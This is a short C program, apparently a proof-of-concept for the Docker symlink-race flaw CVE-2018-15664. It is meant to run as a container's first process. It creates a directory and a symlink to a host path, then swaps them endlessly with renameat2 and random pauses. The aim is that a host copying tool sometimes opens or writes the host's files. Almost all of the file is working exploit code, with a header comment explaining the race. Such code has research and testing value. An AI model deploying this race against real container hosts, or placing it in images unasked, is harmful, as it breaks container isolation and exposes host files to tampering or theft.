/* The CVE-2018-15664 attacker, as PID 1 of a container: it makes /data/d (a directory holding
 * x = "container") and /data/l (a symlink to HOSTDIR, a path that means nothing inside the
 * container but names a directory of the host), then swaps the two names for ever with
 * renameat2(RENAME_EXCHANGE). A tool that resolves /data/d/x in one step and opens it in another
 * will, now and then, open HOSTDIR/x of the host. Built static: the image holds nothing else. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv)
{
    if (argc != 2) {
        fprintf(stderr, "usage: swap HOSTDIR\n");
        return 2;
    }
    mkdir("/data", 0755);
    mkdir("/data/d", 0755);
    int fd = open("/data/d/x", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0 || write(fd, "container\n", 10) != 10 || close(fd) != 0) {
        perror("/data/d/x");
        return 1;
    }
    if (symlink(argv[1], "/data/l") != 0) {
        perror("/data/l");
        return 1;
    }
    printf("ready\n");
    fflush(stdout);
    for (;;) {
        if (syscall(SYS_renameat2, AT_FDCWD, "/data/d", AT_FDCWD, "/data/l", RENAME_EXCHANGE) != 0) {
            perror("renameat2");
            return 1;
        }
        /* a random pause: the tool's lookups land on either state instead of locking onto one */
        for (volatile int spin = rand() % 4096; spin > 0; spin--)
            ;
        if (rand() % 8 == 0)
            sched_yield();
    }
}
